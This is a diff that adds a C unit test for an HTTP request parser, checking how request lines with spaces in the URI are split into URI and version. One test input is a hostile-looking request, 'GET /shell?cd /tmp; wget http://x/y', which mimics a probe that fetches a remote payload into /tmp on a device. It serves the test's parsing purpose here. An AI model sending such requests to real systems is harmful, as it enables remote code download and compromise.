@@ -333,3 +333,21 @@ Test(http, missing_protocol_with_headers)
     HAS(log, "T 0 request{method=\"GET\" uri=\"/\"");
     free(log);
 }
+
+/* A URI with blanks in it: the last word is the version when it looks
+ * like one, the words before it are the URI. */
+Test(http, uri_with_blanks)
+{
+    struct ga_step steps[] = {
+        GA_C("GET /uri afterspace HTTP/1.1\r\nHost: h\r\n\r\n"
+             "GET /shell?cd /tmp; wget http://x/y HTTP/1.0\r\n\r\n"),
+        EOFS,
+    };
+    char *log = conv(steps, N(steps));
+    HAS(log, "E http.request tx=0 dir=0 request{method=\"GET\" uri=\"/uri afterspace\" "
+             "version=\"HTTP/1.1\"");
+    HAS(log, "E http.request tx=1 dir=0 request{method=\"GET\" uri=\"/shell?cd /tmp; wget "
+             "http://x/y\" version=\"HTTP/1.0\"");
+    NO_ANOMALY(log);
+    free(log);
+}
